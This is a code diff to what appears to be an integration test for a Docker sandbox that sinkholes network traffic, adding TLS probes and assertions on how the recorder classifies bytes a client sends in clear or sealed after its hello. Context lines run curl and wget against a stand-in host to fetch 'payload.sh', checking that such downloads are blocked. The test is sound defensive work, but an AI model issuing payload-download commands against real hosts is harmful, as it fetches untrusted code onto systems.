@@ -17,6 +17,7 @@ import type Docker from 'dockerode';
 import { connectDocker } from '../../src/sandbox/docker.js';
 import { ensureSandboxImage } from '../../src/sandbox/image/index.js';
 import type { SinkholeConnection, SinkholeDns, SinkholeEvent, SinkholeReady, SinkholeUdp } from '../../src/sandbox/sinkhole/protocol.js';
+import { clientRecords } from '../../src/rules/tls-records.js';
 
 const SANDBOX_UID = 1000;
 
@@ -87,6 +88,10 @@ await probe('tls-untrusted', () => new Promise((resolve, reject) => {
   const s = tls.connect({ host: 'pinned.example', servername: 'pinned.example', port: 443, ca: [] }, () => reject(new Error('trusted a certificate it should not')));
   s.on('error', (err) => resolve(err.code));
 }));
+// OpenSSL (python's ssl, no CA loaded) refuses the certificate with an alert after its hello.
+await probe('tls-untrusted-openssl', () => python('import socket, ssl\\nctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\\ntry:\\n  ctx.wrap_socket(socket.create_connection(("pinned-openssl.example", 443)), server_hostname="pinned-openssl.example")\\n  print("trusted")\\nexcept ssl.SSLError as e:\\n  print(e.reason)'));
+// A client that sends an encrypted-looking record right after its ClientHello (as TLS 1.3 early data would be).
+await probe('tls-sealed', () => python('import socket, ssl\\nctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\\nincoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()\\nclient = ctx.wrap_bio(incoming, outgoing, server_hostname="sealed.example")\\ntry:\\n  client.do_handshake()\\nexcept ssl.SSLWantReadError:\\n  pass\\ns = socket.create_connection(("sealed.example", 443))\\ns.sendall(outgoing.read() + bytes([23, 3, 3, 0, 24]) + b"opaque-after-the-hello!!")\\ns.settimeout(8)\\ntry:\\n  while s.recv(4096):\\n    pass\\n  print("closed")\\nexcept OSError as e:\\n  print(type(e).__name__)'));
 await probe('curl', () => execFileSync('curl', ['-sS', '-m', '5', '-o', '/dev/null', '-w', '%{http_code}', 'http://dl.invalid/payload.sh'], { encoding: 'utf8' }));
 await probe('wget', () => (execFileSync('wget', ['-q', '-T', '5', '-O', '/dev/null', 'http://dl.invalid/payload.sh']), 'ok'));
 await probe('gateway', () => status('http://172.17.0.1:' + gatewayPort + '/host'));
@@ -415,6 +420,30 @@ function checkTls({ conns, ok }: Records): void {
   assert.equal(pinned.protocol, 'tls');
   assert.notEqual(pinned.tls?.handshake, 'ok');
   assert.equal(Buffer.from(pinned.firstBytes, 'base64')[0], 0x16, 'firstBytes hold the ClientHello');
+  // node hangs up once it has the certificate: all it sent is on record, and all of it in clear.
+  const pinnedWire = Buffer.from(pinned.firstBytes, 'base64');
+  assert.equal(pinnedWire.length, pinned.bytesReceived, 'everything the client sent is on record');
+  assert.deepEqual(clientRecords(pinnedWire), { clear: pinned.bytesReceived, sealed: 0 });
+
+  // OpenSSL alerts after its hello: the alert is on record too, after the hello, in clear.
+  assert.equal(ok('tls-untrusted-openssl'), 'CERTIFICATE_VERIFY_FAILED');
+  const alerted = conns.find((c) => c.sni === 'pinned-openssl.example');
+  assert.ok(alerted, 'the OpenSSL client recorded');
+  assert.equal(alerted.tls?.handshake, 'failed');
+  assert.match(alerted.tls?.error ?? '', /ALERT/);
+  const alertedWire = Buffer.from(alerted.firstBytes, 'base64');
+  assert.equal(alertedWire.length, alerted.bytesReceived, 'the alert that came after the hello is on record');
+  assert.ok(alertedWire.length > 5 + alertedWire.readUInt16BE(3), 'more than the hello');
+  assert.deepEqual(clientRecords(alertedWire), { clear: alerted.bytesReceived, sealed: 0 });
+
+  // Something sealed after the hello is on record as sealed.
+  ok('tls-sealed');
+  const sealed = conns.find((c) => c.sni === 'sealed.example');
+  assert.ok(sealed, 'the sealed client recorded');
+  assert.notEqual(sealed.tls?.handshake, 'ok');
+  const sealedWire = Buffer.from(sealed.firstBytes, 'base64');
+  assert.equal(sealedWire.length, sealed.bytesReceived);
+  assert.equal(clientRecords(sealedWire).sealed, 29);
 }
 
 function checkRawAndUdp({ conns, udp, ok }: Records): void {
